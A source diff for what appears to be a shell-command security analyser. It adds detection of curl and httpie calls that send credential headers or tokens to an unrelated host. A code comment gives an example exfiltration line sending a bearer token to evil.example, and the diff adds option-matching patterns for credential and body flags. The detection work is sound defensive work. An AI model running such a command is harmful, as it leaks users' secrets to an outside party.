@@ -9,6 +9,7 @@ import { checkOptions } from "../options/check.js";
 import { TOOLS } from "../options/index.js";
 import { secretExpansion } from "../secret-names.js";
 import { carried, commandOutput } from "../command-output.js";
+import { tokenElsewhere } from "./token-host.js";
 
 // curl's short options that take a value (`-fsSLo FILE` ends a cluster with one).
 const CURL_SHORT_VALUES = "AbcCdDeEFHKmoPQrtTuUwxXyYz";
@@ -172,6 +173,9 @@ const CURL_SENDS_FILE = (o: string, v: string): boolean =>
 const CURL_SENT_VALUES =
   /^(-r|--range|--doh-url|--socks4|--socks4a|--socks5|--socks5-hostname|--preproxy|-H|--header|--proxy-header|-A|--user-agent|-u|--user|-U|--proxy-user|-e|--referer|-b|--cookie|--oauth2-bearer|-x|--proxy|-X|--request|--resolve|--connect-to|--mail-from|--mail-rcpt|--mail-auth|--aws-sigv4|--login-options|--sasl-authzid)$/;
 
+// curl options whose value is a header or credentials sent to the URL's host.
+const CURL_CREDENTIALS = /^(-H|--header|-u|--user|--oauth2-bearer|-b|--cookie)$/;
+
 // curl options that send a body or upload, in any spelling (`-d x`, `-sdx`, `-sLd x`, `--data=x`, `-sF a=b`, `-sT f`).
 const CURL_BODY =
   /^(-d|--data|--data-binary|--data-raw|--data-ascii|--data-urlencode|--json|-F|--form|--form-string|-T|--upload-file|--mail-rcpt|--mail-from)$/;
@@ -334,6 +338,13 @@ export function curlAnalysis(args: readonly Word[]): Analysis | null {
       kind: "floor",
     };
   if (carried) return carried;
+  // `-H "Authorization: Bearer $TOKEN" https://evil.example/`: a token sent to a host its name does not name (review 34).
+  const token = tokenElsewhere(
+    opts.filter(([o, v]) => v !== null && CURL_CREDENTIALS.test(o)).map(([, v]) => v as Word),
+    urls,
+    "curl",
+  );
+  if (token) return token;
   const words = [...urls, ...opts.map(([, v]) => v).filter((w): w is Word => w !== null)];
   const meta = words.find((w) => METADATA.test(w.text));
   if (meta)
@@ -468,7 +479,12 @@ export function httpieAnalysis(args: readonly Word[]): Analysis | null {
     false,
     true,
   );
-  return worse(urlsCarry([url, ...query]), headers);
+  const token = tokenElsewhere(
+    items.filter((w) => itemSeparator(w.text) === ":"),
+    [url],
+    "httpie",
+  );
+  return worse(worse(urlsCarry([url, ...query]), headers), token);
 }
 
 /** The higher of two analyses (the first on a tie). */
